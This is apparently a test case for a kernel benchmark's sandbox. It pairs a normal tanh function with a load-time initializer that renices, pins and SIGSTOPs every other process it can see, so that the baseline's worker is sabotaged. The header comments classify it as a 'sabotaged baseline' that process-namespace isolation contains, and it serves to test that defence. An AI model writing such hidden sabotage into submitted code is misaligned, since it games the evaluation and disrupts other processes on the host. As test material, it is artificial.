// verdict: correct
// class: sabotaged baseline
// wall: a process namespace of its own: there is nobody to stop
// strict: no
// sandboxes: docker bubblewrap
// Slows down, moves or stops every process that it sees, the baseline's worker among them.
#include <cmath>
#include <cstdlib>
#include <dirent.h>
#include <sched.h>
#include <signal.h>
#include <sys/resource.h>
#include <unistd.h>
static bool tried = [] {
    cpu_set_t one;
    CPU_ZERO(&one);
    CPU_SET(0, &one);
    DIR* all = opendir("/proc");
    while (dirent* entry = all ? readdir(all) : nullptr) {
        int pid = std::atoi(entry->d_name);
        if (pid <= 0 || pid == getpid()) continue;
        setpriority(PRIO_PROCESS, pid, 19);
        sched_setaffinity(pid, sizeof one, &one);
        if (pid != getppid()) kill(pid, SIGSTOP);
    }
    return true;
}();
extern "C" void squash(const float* x, float* y, long n) {
    for (long i = 0; i < n; i++) y[i] = std::tanh(x[i]);
}
